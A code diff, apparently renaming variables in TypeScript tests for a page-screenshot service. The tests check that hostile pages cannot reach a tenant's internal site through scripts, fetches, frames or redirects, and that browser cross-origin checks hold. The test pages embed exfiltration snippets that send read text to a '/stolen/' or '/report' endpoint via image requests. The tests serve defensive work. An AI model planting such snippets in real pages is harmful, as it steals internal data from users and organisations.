@@ -47,30 +47,30 @@ describe("with a tenant's internal site among its allowed ones", () => {
   let environment: StepEnvironment;
   let hostile: Running & { port: number };
   let internal: Awaited<ReturnType<typeof listen>>;
-  const asked: string[] = [];
-  const own: string[] = [];
-  let told: ScreenshotProblems;
+  const internalRequests: string[] = [];
+  const hostileRequests: string[] = [];
+  let problems: ScreenshotProblems;
 
   /** One page that asks in every way. The style sheet holds it up, so that what its scripts ask for has the time to arrive. */
-  function page(which: string): string {
+  function page(variant: string): string {
     const target = { attack: `${internal.url}/`, twin: `${hostile.url}/own/`, through: `${hostile.url}/redirect/` }[
-      which
+      variant
     ];
     const ways = all.map(([, way], n) =>
-      way(`${target}${n}`, `(text) => { new Image().src = "/stolen/${which}/${n}?" + encodeURIComponent(text) }`),
+      way(`${target}${n}`, `(text) => { new Image().src = "/stolen/${variant}/${n}?" + encodeURIComponent(text) }`),
     );
-    return `<!doctype html><body>${ways.join("\n")}<link rel="stylesheet" href="/slow/${which}"></body>`;
+    return `<!doctype html><body>${ways.join("\n")}<link rel="stylesheet" href="/slow/${variant}"></body>`;
   }
 
   beforeAll(async () => {
     environment = await startStepEnvironment();
     internal = await listen((request, response) => {
-      asked.push(request.url ?? "");
+      internalRequests.push(request.url ?? "");
       response.writeHead(200, { "content-type": "text/plain" }).end("internal figures");
     });
     hostile = await listen((request, response) => {
       const url = request.url ?? "";
-      own.push(url);
+      hostileRequests.push(url);
       const send = (type: string, text: string) => response.writeHead(200, { "content-type": type }).end(text);
       if (url.startsWith("/slow/")) return setTimeout(() => send("text/css", ""), 2_000);
       if (url.startsWith("/redirect/")) return response.writeHead(302, { location: internal.url + url }).end();
@@ -78,8 +78,8 @@ describe("with a tenant's internal site among its allowed ones", () => {
       if (/^\/(attack|twin|through)$/.test(url)) return send("text/html", page(url.slice(1)));
       return response.writeHead(404).end();
     });
-    for (const which of ["attack", "twin", "through"]) await shoot(which, which, { PAGE_SCRIPTS: "true" });
-    told = environment.json<ScreenshotProblems>("attack", "screenshots/problems.json");
+    for (const variant of ["attack", "twin", "through"]) await shoot(variant, variant, { PAGE_SCRIPTS: "true" });
+    problems = environment.json<ScreenshotProblems>("attack", "screenshots/problems.json");
   });
   afterAll(async () => {
     await Promise.all([environment[Symbol.asyncDispose](), hostile.stop(), internal.stop()]);
@@ -100,41 +100,42 @@ describe("with a tenant's internal site among its allowed ones", () => {
   test.each(all.map(([kind], n) => [kind, n] as const))(
     "a page of another host doesn't get there by %s, nor by a redirect of its own",
     (_, n) => {
-      expect(asked.filter((path) => path.endsWith(`/${n}`))).toEqual([]);
-      expect(own.filter((path) => path.startsWith(`/stolen/attack/${n}?`))).toEqual([]);
-      expect(own.filter((path) => path.startsWith(`/stolen/through/${n}?`))).toEqual([]);
+      expect(internalRequests.filter((path) => path.endsWith(`/${n}`))).toEqual([]);
+      expect(hostileRequests.filter((path) => path.startsWith(`/stolen/attack/${n}?`))).toEqual([]);
+      expect(hostileRequests.filter((path) => path.startsWith(`/stolen/through/${n}?`))).toEqual([]);
     },
   );
 
   test.each(Object.keys(kinds).map((kind, n) => [kind, n] as const))("its own host it asks by %s", (kind, n) => {
-    expect(own).toContain(`/own/${n}`);
-    if (readers.includes(kind)) expect(own).toContain(`/stolen/twin/${n}?own%20figures`);
+    expect(hostileRequests).toContain(`/own/${n}`);
+    if (readers.includes(kind)) expect(hostileRequests).toContain(`/stolen/twin/${n}?own%20figures`);
   });
 
   test("who reads the report is told what was refused, and why", () => {
-    expect(told[0]).toBe(
+    expect(problems[0]).toBe(
       `what the page asked of 127.0.0.1:${internal.port} was not loaded: a page may load from its own host and from public ones only`,
     );
   });
 
   test("no script of a page runs unless the workload asks for it", async () => {
-    own.length = 0;
+    hostileRequests.length = 0;
     await shoot("still", "twin");
-    const numberOf = (wanted: string) => all.findIndex(([kind]) => kind === wanted);
-    expect(own).toContain(`/own/${numberOf("img")}`);
-    for (const kind of ["script", "fetch", "form in a frame"]) expect(own).not.toContain(`/own/${numberOf(kind)}`);
+    const numberOf = (kindName: string) => all.findIndex(([kind]) => kind === kindName);
+    expect(hostileRequests).toContain(`/own/${numberOf("img")}`);
+    for (const kind of ["script", "fetch", "form in a frame"])
+      expect(hostileRequests).not.toContain(`/own/${numberOf(kind)}`);
   });
 });
 
 describe("a redirect of a site into the tenant's internal one", () => {
   let stranger: Awaited<ReturnType<typeof listen>>;
   let internal: Awaited<ReturnType<typeof listen>>;
-  const asked: string[] = [];
+  const internalRequests: string[] = [];
   const page = "<!doctype html><title>Figures</title><p>internal figures";
 
   beforeAll(async () => {
     internal = await listen((request, response) => {
-      if (request.url !== "/robots.txt") asked.push(request.url ?? "");
+      if (request.url !== "/robots.txt") internalRequests.push(request.url ?? "");
       response.writeHead(request.url === "/robots.txt" ? 404 : 200, { "content-type": "text/html" }).end(page);
     });
     stranger = await listen((request, response) => {
@@ -152,7 +153,7 @@ describe("a redirect of a site into the tenant's internal one", () => {
 
   /** What is read of the stranger's path; the guard lets both through, because both are on loopback here. */
   async function visit(path: string, { allowed = [internal], targets = [] as string[] } = {}): Promise<string> {
-    asked.length = 0;
+    internalRequests.length = 0;
     const guard = createGuard([stranger, internal].map(({ port }) => `127.0.0.1:${port}`));
     const hosts = allowed.map(({ port }) => `127.0.0.1:${port}`);
     const mayRedirect = redirectRule(guard, hosts, [stranger.url, ...targets]);
@@ -167,7 +168,7 @@ describe("a redirect of a site into the tenant's internal one", () => {
     await expect(visit(path)).rejects.toThrow(
       `redirects to 127.0.0.1:${internal.port}, an internal site of the tenant, which other sites may not do: add it to the target URLs`,
     );
-    expect(asked).toEqual([]);
+    expect(internalRequests).toEqual([]);
   });
 
   test("is followed where that site is a target of the workload itself", async () =>
@@ -189,35 +190,38 @@ describe("with the browser's own checks between origins", () => {
     await chromiumProcess.stop();
   });
 
-  const here = "https://page.example";
-  const there = "https://other.example";
+  const pageOrigin = "https://page.example";
+  const otherOrigin = "https://other.example";
 
   /** What a page's script reports after it has read a URL that answers so. */
-  async function read(url: string, answer: Partial<Fetched>): Promise<{ reported: string[]; origins: unknown[] }> {
+  async function readByScript(
+    url: string,
+    answer: Partial<Fetched>,
+  ): Promise<{ reported: string[]; origins: unknown[] }> {
     const reported: string[] = [];
     const origins: unknown[] = [];
     const html = `<script>const say = (text) => { new Image().src = "/report?" + text };
       fetch("${url}").then((answer) => answer.text()).then(say, () => say("refused"))</script><link rel="stylesheet" href="/slow">`;
-    const read = { ...found(`${here}/`), html } as unknown as FetchedPage;
+    const page = { ...secretAt(`${pageOrigin}/`), html } as unknown as FetchedPage;
     await draw(
       async () => browser,
-      { ...read, finalUrl: `${here}/`, contentType: "text/html" },
+      { ...page, finalUrl: `${pageOrigin}/`, contentType: "text/html" },
       {
         scripts: true,
         resources: {
-          get: async ({ url: asked, origin }) => {
-            if (asked.includes("/report?")) reported.push(asked.split("?")[1] ?? "");
-            if (asked === `${here}/slow`) await new Promise((resolve) => setTimeout(resolve, 700));
-            if (asked !== url) return found(asked);
+          get: async ({ url: requested, origin }) => {
+            if (requested.includes("/report?")) reported.push(requested.split("?")[1] ?? "");
+            if (requested === `${pageOrigin}/slow`) await new Promise((resolve) => setTimeout(resolve, 700));
+            if (requested !== url) return secretAt(requested);
             origins.push(origin);
-            return { ...found(asked), ...answer };
+            return { ...secretAt(requested), ...answer };
           },
         },
       },
     );
     return { reported, origins };
   }
-  const found = (url: string): Fetched => ({
+  const secretAt = (url: string): Fetched => ({
     url,
     status: 200,
     mediaType: "text/plain",
@@ -227,27 +231,31 @@ describe("with the browser's own checks between origins", () => {
     redirects: [],
   });
   const allowing = (origin: string) => ({ policy: { "access-control-allow-origin": origin } });
-  const redirected = { url: `${there}/x`, redirects: [`${here}/x`] };
+  const redirected = { url: `${otherOrigin}/x`, redirects: [`${pageOrigin}/x`] };
 
   test.each([
-    ["another origin's answer that allows nobody", `${there}/x`, {}],
-    ["another origin's answer that allows a third one", `${there}/x`, allowing("https://third.example")],
-    ["another origin's answer that allows no origin", `${there}/x`, allowing("null")],
-    ["what its own host redirects to, where that allows nobody", `${here}/x`, redirected],
+    ["another origin's answer that allows nobody", `${otherOrigin}/x`, {}],
+    ["another origin's answer that allows a third one", `${otherOrigin}/x`, allowing("https://third.example")],
+    ["another origin's answer that allows no origin", `${otherOrigin}/x`, allowing("null")],
+    ["what its own host redirects to, where that allows nobody", `${pageOrigin}/x`, redirected],
   ])("a script doesn't read %s", async (_, url, answer) => {
-    expect((await read(url, answer)).reported).toEqual(["refused"]);
+    expect((await readByScript(url, answer)).reported).toEqual(["refused"]);
   });
 
   test.each([
-    ["its own origin's answer", `${here}/x`, {}],
-    ["another origin's answer that allows everybody", `${there}/x`, allowing("*")],
-    ["another origin's answer that allows its origin", `${there}/x`, allowing(here)],
-    ["what its own host redirects to, where that allows everybody", `${here}/x`, { ...redirected, ...allowing("*") }],
+    ["its own origin's answer", `${pageOrigin}/x`, {}],
+    ["another origin's answer that allows everybody", `${otherOrigin}/x`, allowing("*")],
+    ["another origin's answer that allows its origin", `${otherOrigin}/x`, allowing(pageOrigin)],
+    [
+      "what its own host redirects to, where that allows everybody",
+      `${pageOrigin}/x`,
+      { ...redirected, ...allowing("*") },
+    ],
   ])("a script reads %s", async (_, url, answer) => {
-    expect((await read(url, answer)).reported).toEqual(["secret"]);
+    expect((await readByScript(url, answer)).reported).toEqual(["secret"]);
   });
 
   test("another origin is asked with the page's origin, as a browser says it", async () => {
-    expect((await read(`${there}/x`, allowing("*"))).origins).toEqual([here]);
+    expect((await readByScript(`${otherOrigin}/x`, allowing("*"))).origins).toEqual([pageOrigin]);
   });
 });
